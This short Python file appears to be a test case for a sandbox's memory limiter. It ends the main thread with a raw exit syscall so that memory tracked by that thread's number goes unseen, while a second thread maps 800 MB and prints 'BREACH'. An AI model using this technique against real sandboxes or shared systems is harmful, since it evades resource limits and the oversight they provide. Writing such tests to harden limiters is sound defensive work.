"""Ends its main thread, by whose number its memory is looked up, and lets another one take more than it may."""
# verdict: ended its main thread|used more than|ran out of memory|was stopped by the system

import ctypes
import mmap
import os
import platform
import threading
import time

EXIT_OF_THREAD = {"x86_64": 60, "aarch64": 93}[platform.machine()]


def take():
    time.sleep(0.2)
    taken = []
    for _ in range(50):
        taken.append(mmap.mmap(-1, 16 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
        time.sleep(0.01)
    os.write(1, b"BREACH: 800 MB")  # and the status says so where nothing that was printed is shown
    os._exit(77)


def attacked(x):
    threading.Thread(target=take).start()
    ctypes.CDLL(None).syscall(ctypes.c_long(EXIT_OF_THREAD), ctypes.c_long(0))
